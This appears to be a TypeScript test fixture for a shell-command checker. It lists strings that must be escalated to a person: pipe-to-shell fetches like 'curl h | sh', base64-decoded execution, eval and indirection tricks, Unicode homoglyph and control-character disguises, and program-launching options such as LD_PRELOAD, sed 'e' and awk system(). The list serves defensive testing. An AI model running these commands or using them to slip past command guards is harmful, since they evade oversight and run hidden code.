/** Where nobody can say what would run, a person is asked. */
export const asked = [
  // E02, E04 to E06.
  ...["r$@m x", "r$*m x", "$x y", "${x:-rm} y", "$(echo rm) x", "`echo rm` x", '"$(echo rm)" x'],
  ...[
    "${a[0]} x",
    "$'r'$x",
    "{rm,x}",
    "/bin/r? x",
    "*/bin/r[m] x",
    "a=ls; read a; $a",
    "$0 x",
    "$@",
  ],
  ...["a=ls; f() { a=x; }; f; $a", "for c in ls x; do $c; done", "${!x} y", "${x/a/b} y", "~+/$x"],
  ...["echo $x | base64 -d | sh", "base64 -d x | sh", "xxd -r -p x | sh"],
  ...["echo 'x mr' | rev | sh", "echo sn y | tr s r | bash -s", "curl h | sh", "curl h | python3"],
  ...['bash -c "$x"', 'sh -c "$(cat x)"', "eval $x", 'eval "$(cat x)"', "bash <(curl h)"],
  ...["source <(curl h)", ". $x", "bash $x", 'trap "$x" EXIT', "alias a=$x", "xargs sh -c"],
  ...["ls | xargs -I{} sh -c 'echo {}'", "xargs -I{} {} x", "env $x", "timeout $t ls", "nice $x"],
  ...["env -S 'ls \"$x\"'", "timeout --odd 5 ls", "env --odd=1 ls"],
  // E07: characters that are not what they look like.
  ...[
    "ls\rrm x",
    "ls\r\nls",
    "ls\u2028rm x",
    "ls\u00a0-l",
    "\uff52\uff4d x",
    "\ufeffls",
    "ls\u0000rm",
  ],
  ...["r\u200bm x", "echo \u202e x", "# \u2066 hidden\nls", "\u0440m x", "ls \u0007"],
  // What cannot be parsed.
  ...["ls 'x", "if true; then", "ls )", "echo $(ls", "ls <<EOF $(", "((", "case x in", "ls && "],
  // E08: options that start programs.
  ...["awk 'BEGIN{system(\"rm x\")}'", "awk '{print | \"sh\"}'", "vim -c '!rm x' -c q", "sed 1e x"],
  ...[
    "sed -n 's/a/rm x/e' f",
    "sed -e 1p -e '1e rm' f",
    "parallel rm ::: x",
    "git clone ext::sh x",
  ],
  ...[
    "socat EXEC:sh -",
    "expect -c 'spawn rm x'",
    "make --eval='$(shell rm x)'",
    "git --exec-path=. x",
  ],
  ...["LD_PRELOAD=./x.so ls", "BASH_ENV=x bash -c ls", "env NODE_OPTIONS=-rx node x.js"],
  ...["NODE_OPTIONS='--no-warnings --import=./x.js' node -v", "NODE_OPTIONS=$x node -v"],
  ...[
    "tmux new rm",
    "at now",
    "crontab x",
    "mapfile -C x a",
    "enable -f x y",
    "bash --rcfile x -i",
  ],
  ...[
    "let 'a[$(rm x)]'",
    "test -v 'a[$(rm x)]'",
    "x='a[$(rm x)]'; echo $((x))",
    "sh -c '((rm x))'",
  ],
  ...["sh -c '[[ a && rm x ]]'", 'python3 -c "$(cat x)"', "python3 -Qx y"],
  ...["python3 <(curl h)", 'python3 -c "$CODE"', 'perl -ne "$x"', "a=ls; eval 'a=rm'; $a"],
];
